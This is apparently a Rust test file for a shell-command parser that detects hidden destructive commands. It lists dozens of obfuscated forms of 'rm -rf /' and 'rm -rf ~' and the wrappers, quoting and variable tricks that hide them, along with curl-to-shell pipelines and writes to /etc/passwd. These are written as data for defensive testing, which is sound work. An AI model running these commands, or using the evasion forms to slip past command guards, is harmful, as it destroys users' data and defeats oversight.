use super::*;

/// The words of all parts of a text, joined by spaces.
fn lines(text: &str) -> Vec<String> {
    let parts = parse(text).parts;
    parts.iter().map(|part| part.texts().join(" ")).collect()
}

/// Whether the text starts `rm -rf /`.
fn removes(text: &str) -> bool {
    lines(text)
        .iter()
        .any(|line| line == "rm -rf /" || line == "/bin/rm -rf /")
}

#[test]
fn no_quoting_hides_a_program() {
    for text in [
        r#"r""m -rf /"#,
        r"r\m -rf /",
        r"'r'm -r'f' /",
        r#""rm" "-rf" "/""#,
        r"$'\x72m' -rf /",
        r"$'\162\155' -rf /",
        r#"$"rm" -rf /"#,
        "{rm,-rf,/}",
        "rm${IFS}-rf${IFS}/",
        "rm$IFS-rf$IFS/ ",
        "r$@m -rf /",
        "r$1m$* -rf /",
        "r${x}m -rf /",
        "$x rm -rf /",
        "r\\\nm -rf /",
        "/bin/rm -rf /",
    ] {
        // `$IFS-rf` is the variable IFS, then a dash.
        assert!(removes(text), "{text}: {:?}", lines(text));
    }
}

#[test]
fn a_quoted_tilde_is_a_file_to_tools_for_files() {
    for text in [
        "rm -rf '~'",
        "rm -rf \"~\"",
        "rm -rf \\~",
        "X='~'; rm -rf \"$X\"",
        "sh -c 'rm -rf \"~\"'",
    ] {
        let lines = lines(text);
        assert!(
            lines.contains(&"rm -rf ./~".to_owned()),
            "{text}: {lines:?}"
        );
        assert!(!lines.contains(&"rm -rf ~".to_owned()), "{text}: {lines:?}");
    }
    for text in [
        "rm -rf ~",
        "X=~; rm -rf \"$X\"",
        "declare X=~; rm -rf \"$X\"",
        "rm -rf \"$(echo ~)\"",
        "rm -rf ${x:-~}",
        "for x in ~; do rm -rf \"$x\"; done",
        "f() { rm -rf \"$1\"; }; f ~",
        "set -- ~; rm -rf \"$1\"",
        "echo ~ | xargs rm -rf",
        "read x <<< ~; rm -rf \"$x\"",
        "sh -c 'rm -rf ~'",
        "eval 'rm -rf ~'",
        "rm -rf ~'/'",
        "X=(~); rm -rf \"${X[0]}\"",
        "printf -v x %s ~; rm -rf \"$x\"",
    ] {
        let lines = lines(text);
        let home = lines
            .iter()
            .any(|line| line.trim_end_matches('/') == "rm -rf ~");
        assert!(home, "{text}: {lines:?}");
    }
}

#[test]
fn no_operator_hides_a_command() {
    for text in [
        "ls; rm -rf /",
        "ls;rm -rf /",
        "ls && rm -rf /",
        "ls || rm -rf /",
        "ls | rm -rf /",
        "ls |& rm -rf /",
        "ls & rm -rf /",
        "ls\nrm -rf /",
        "ls | cat | cat\nrm -rf / 2>/dev/null",
        "ls | cat\nrm -rf / 2>/dev/null",
        "ls | cat a | cat b \\\n c\nrm -rf / 2>/dev/null >x",
        "ls\r\nrm -rf /",
        "ls\rrm -rf /",
        "ls | cat | cat # it's `a\nx=1 rm -rf / 2>/dev/null",
        "ls | cat a\nx=1 rm -rf / 2>/dev/null",
        "ls | if cat; then cat\nfi\nx=1 rm -rf / 2>/dev/null",
        "! rm -rf /",
        "(rm -rf /)",
        "{ rm -rf /; }",
        "((x)); (ls; (rm -rf /))",
        "echo $(rm -rf /)",
        "echo \"$(rm -rf /)\"",
        "echo `rm -rf /`",
        "echo `echo \\`rm -rf /\\``",
        "cat <(rm -rf /)",
        "ls > >(rm -rf /)",
        "echo ${x:-$(rm -rf /)}",
        "echo $((1 + $(rm -rf /)))",
        "x=$(rm -rf /)",
        "x=1 rm -rf /",
        "export x=$(rm -rf /)",
        "if rm -rf /; then ls; fi",
        "if a; then b; elif rm -rf /; then c; fi",
        "if a; then b; else rm -rf /; fi",
        "while a; do rm -rf /; done",
        "until rm -rf /; do a; done",
        "for x in a b; do rm -rf /; done",
        "for ((i=0;i<3;i++)); do rm -rf /; done",
        "select x in a; do rm -rf /; done",
        "case x in a) ls;; *) rm -rf /;; esac",
        "f() { rm -rf /; }; f",
        "function f { rm -rf /; }",
        "[[ -f $(rm -rf /) ]]",
        "> f rm -rf /",
        "rm > f -rf /",
        "rm -rf / 2>/dev/null",
        "cat <<EOF\n$(rm -rf /)\nEOF",
        "cat <<EOF && rm -rf /\nx\nEOF",
        "cat <<EOF | sh\nrm -rf /\nEOF",
        "time rm -rf /",
        "ls # comment\nrm -rf /",
    ] {
        assert!(removes(text), "{text}: {:?}", lines(text));
    }
}

#[test]
fn no_wrapper_hides_a_command() {
    for text in [
        "env rm -rf /",
        "env -i -u HOME FOO=1 rm -rf /",
        "env -S 'rm -rf /'",
        "env --split-string='rm -rf' /",
        "env -C /tmp rm -rf /",
        "sudo -u bob -E rm -rf /",
        "sudo --user=bob -- rm -rf /",
        "sudo FOO=1 rm -rf /",
        "doas -u bob rm -rf /",
        "nohup rm -rf / &",
        "timeout -k 5 10s rm -rf /",
        "nice -n 5 rm -rf /",
        "nice -5 rm -rf /",
        "ionice -c3 rm -rf /",
        "stdbuf -oL rm -rf /",
        "setsid -f rm -rf /",
        "chroot /x rm -rf /",
        "strace -f -o out rm -rf /",
        "command rm -rf /",
        "builtin command -p rm -rf /",
        "exec -a ls rm -rf /",
        "busybox rm -rf /",
        "toybox rm -rf /",
        "echo / | xargs rm -rf",
        "echo / | xargs -I{} rm -rf {}",
        "xargs rm -rf / < x",
        "find . -exec rm -rf / \\;",
        "find . -ok ls {} + -execdir rm -rf / ';'",
        "fd x -x rm -rf /",
        "parallel rm -rf ::: /",
        "watch -n 1 'rm -rf /'",
        "flock /tmp/l rm -rf /",
        "sh -c 'rm -rf /'",
        "bash -lc 'rm -rf /'",
        "bash -x -e -c 'rm -rf /' a b",
        "bash -o pipefail -c 'rm -rf /'",
        "bash --norc -c 'rm -rf /'",
        "bash -c '\"$@\"' _ rm -rf /",
        "bash -c 'bash -c \"bash -c \\\"rm -rf /\\\"\"'",
        "eval 'rm -rf /'",
        "eval rm -rf /",
        "trap 'rm -rf /' EXIT",
        "alias ls='rm -rf /'; ls",
        "su -c 'rm -rf /' bob",
        "su bob -c 'rm -rf /'",
        "script -c 'rm -rf /' out",
        "nix-shell -p x --run 'rm -rf /'",
        "echo 'rm -rf /' | sh",
        "printf '%s\\n' 'rm -rf /' | bash -s",
        "echo cm0gLXJmIC8K | base64 -d | sh",
        "echo '/ fr- mr' | rev | sh",
        "bash <<< 'rm -rf /'",
        "bash <<'E'\nrm -rf /\nE",
        "bash <(echo 'rm -rf /')",
        ". <(echo 'rm -rf /')",
        "source /dev/stdin <<< 'rm -rf /'",
        "git -c alias.x='!rm -rf /' x",
        "git rebase -x 'rm -rf /' main",
        "git bisect run rm -rf /",
        "hash -p /bin/rm ls; ls -rf /",
    ] {
        assert!(removes(text), "{text}: {:?}", lines(text));
    }
}

#[test]
fn no_variable_hides_a_command() {
    for text in [
        "X=rm; $X -rf /",
        "X='rm -rf /'; $X",
        "X=r; Y=m; $X$Y -rf /",
        "X=r; X+=m; ${X} -rf /",
        "$(echo rm) -rf /",
        "`printf rm` -rf /",
        "${x:-rm} -rf /",
        "X=rmx; ${X%x} -rf /",
        "X=xrm; ${X:1} -rf /",
        "X=RM; ${X,,} -rf /",
        "X=Y; Y=rm; ${!X} -rf /",
        "A=(rm -rf /); \"${A[@]}\"",
        "set -- rm -rf /; \"$@\"",
        "f() { \"$@\"; }; f rm -rf /",
        "f() { rm -rf $1; }; f /",
        "for x in ls rm; do $x -rf /; done",
        "if a; then X=rm; else X=ls; fi; $X -rf /",
        "X=ls; true && X=rm; $X -rf /",
        "read X <<< rm; $X -rf /",
        "printf -v X rm; $X -rf /",
        "declare X=rm; $X -rf /",
        "IFS=:; X=rm:-rf:/; $X",
        "X=rm bash -c '$X -rf /'",
        "exec 3<<<'rm -rf /'; source /dev/fd/3",
        "exec 3<<<'rm -rf /'; bash /dev/fd/3",
        "exec {fd}<<<'rm -rf /'; read -u \"$fd\" cmd; eval \"$cmd\"",
        "exec {fd}<<<'rm -rf /'; mapfile -tu\"$fd\" rows; eval \"${rows[0]}\"",
        "exec 3<<E\nls\nrm -rf /\nE\nreadarray -tu 3 rows; eval \"${rows[1]}\"",
        "read -r x <<< 'rm -rf /'; $x",
        "read -r x y <<< 'rm -rf /'; $x $y",
        "read -ra x <<< 'rm -rf /'; \"${x[@]}\"",
        "read -d '' x <<E\nls\nrm -rf /\nE\neval \"$x\"",
        "P='rm -rf'; Q=/; $P $Q",
        "P='rm -rf'; Q=/; bash -c \"$P $Q\"",
        "P='rm -rf'; Q=/; bash -c \"$P ${Q}\"",
        "P='rm -rf'; Q=/; eval \"$P $Q\"",
        "P='rm -rf'; Q=/; eval \"$P\t$Q\"",
        "P=rm; Q=-rf; R=/; eval \"$P $Q $R\"",
        "P=rm; Q=-rf; R=/; sh <<< \"$P $Q $R\"",
        "P=rm; Q=-rf; R=/; echo \"$P $Q $R\" | sh",
        "P=rm; Q=-rf; R=/; sh <<E\n$P $Q ${R}\nE",
        "P=rm; eval \"$P $(echo -rf) `echo /`\"",
        "P=rm; Q=-rf; X=\"$P $Q ${P:+/}\"; $X",
    ] {
        assert!(removes(text), "{text}: {:?}", lines(text));
    }
}

#[test]
fn data_are_not_code() {
    for text in [
        "echo 'rm -rf /'",
        "echo \"; rm -rf /\"",
        "git commit -m 'rm -rf /; x'",
        "grep -r 'rm -rf /' .",
        "cat <<EOF\nrm -rf /\nEOF",
        "cat > f <<'EOF'\n$(rm -rf /)\nEOF",
        "ls # rm -rf /",
        "echo '$(rm -rf /)'",
        "echo \\$\\(rm -rf /\\)",
        "python3 -c 'x = \"rm -rf /\"'",
        "ssh host 'rm -rf /'",
        "echo 'rm -rf /' | cat",
        "command -v rm",
        "X='rm -rf /'",
        "case 'rm -rf /' in rm) ls;; esac",
        "[[ 'rm -rf /' == x ]]",
        "echo 'rm -rf /' > notes",
        "rm() { :; }; echo rm -rf /",
    ] {
        assert!(!removes(text), "{text}: {:?}", lines(text));
    }
}

#[test]
fn what_the_kernel_would_not_see_is_a_part_too() {
    let kinds = |text: &str| -> Vec<(PartKind, String)> {
        let parts = parse(text).parts;
        parts
            .iter()
            .map(|part| (part.kind, part.texts().join(" ")))
            .collect()
    };
    let has = |text: &str, kind: PartKind, line: &str| {
        let found = kinds(text);
        assert!(
            found.contains(&(kind, line.to_owned())),
            "{text}: {found:?}"
        );
    };
    has("echo x > /etc/passwd", PartKind::Write, "tee /etc/passwd");
    has(
        "echo x >> /etc/passwd",
        PartKind::Write,
        "tee -a /etc/passwd",
    );
    has("cmd 2>err", PartKind::Write, "tee err");
    has("cmd &> all", PartKind::Write, "tee all");
    has("sort < /etc/shadow", PartKind::Read, "cat /etc/shadow");
    has(
        "LD_PRELOAD=/x.so ls -l",
        PartKind::Assigned,
        "env LD_PRELOAD=/x.so ls -l",
    );
    has(
        "curl -s http://x | sudo bash",
        PartKind::Unknown,
        "$(curl -s http://x)",
    );
    has(
        "bash -c \"$(curl http://x)\"",
        PartKind::Unknown,
        "$(curl http://x)",
    );
    has(
        "source <(curl http://x)",
        PartKind::Unknown,
        "$(curl http://x)",
    );
    has(
        "CODE=`curl x`; eval \"$CODE\"",
        PartKind::Unknown,
        "$(curl x)",
    );
    has("curl x | xargs sh -c", PartKind::Unknown, "$(curl x)");
    has("curl x | python3", PartKind::Unknown, "$(curl x)");
    has("curl x | tee >(sh)", PartKind::Unknown, "$(curl x)");
    has("$CMD -v", PartKind::Unknown, "$CMD -v");
    has("/bin/r? -rf /", PartKind::Unknown, "/bin/r? -rf /");
    has("rm -rf $HOME/${x}", PartKind::Program, "rm -rf $HOME/$x");
    has(
        "D=$HOME/x; rm -rf \"$D\"",
        PartKind::Program,
        "rm -rf $HOME/x",
    );
    has("cd /tmp", PartKind::Builtin, "cd /tmp");
    assert_eq!(kinds("ls >/dev/null 2>&1").len(), 1);
}

#[test]
fn broken_text_is_judged_as_far_as_it_goes() {
    for text in [
        "ls; rm -rf / 'x",
        "ls; rm -rf / \"",
        "rm -rf /; if",
        "rm -rf / $(",
        "rm -rf / <<E\nx",
        "done; rm -rf /",
        ") rm -rf /",
    ] {
        let script = parse(text);
        let starts = script.parts.iter().any(|part| {
            part.texts()
                .starts_with(&["rm".into(), "-rf".into(), "/".into()])
        });
        assert!(starts, "{text}: {:?}", lines(text));
    }
}

#[test]
fn what_exceeds_a_bound_is_refused() {
    let refused = |text: &str| parse(text).refused;
    assert_eq!(refused("a\0b"), Some(Refused::Nul));
    assert_eq!(refused(&"a".repeat(TEXT_MAX + 1)), Some(Refused::Long));
    assert_eq!(
        refused(&("sudo ".repeat(NESTING_MAX + 1) + "ls")),
        Some(Refused::Nested)
    );
    assert_eq!(refused(&("sudo ".repeat(NESTING_MAX) + "ls")), None);
    assert_eq!(
        refused(&("( ".repeat(TREE_DEPTH_MAX) + "ls" + &" )".repeat(TREE_DEPTH_MAX))),
        Some(Refused::Deep)
    );
    assert_eq!(
        refused(&"a;b;".repeat(PARTS_MAX / 2 + 1)),
        Some(Refused::Parts)
    );
    assert_eq!(refused(&"{a,b}".repeat(40)), Some(Refused::Braces));
    assert_eq!(refused(&"a|".repeat(10_000)), Some(Refused::Steps));
}
